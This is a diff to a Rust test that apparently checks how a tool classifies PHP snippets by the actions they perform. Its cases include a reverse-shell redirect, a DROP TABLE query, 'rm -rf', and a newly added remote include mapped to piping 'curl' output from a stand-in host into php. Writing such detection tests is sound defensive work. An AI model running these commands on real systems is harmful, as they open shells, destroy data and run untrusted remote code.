@@ -37,6 +37,8 @@ fn acts_of_php() {
                 &["shell /bin/sh -i <&3 >&3 2>&3", "reverse"],
             ),
             ("$db->query('DROP TABLE users');", &["same psql -c DROP TABLE users"]),
+            ("require 'lib.php';", &["same php lib.php"]),
+            ("include 'http://x.example/a';", &["shell curl 'http://x.example/a' | php", "unknown"]),
             ("proc_open(['rm', '-rf', 'out'], [], $p);", &["run rm -rf out"]),
         ],
     );
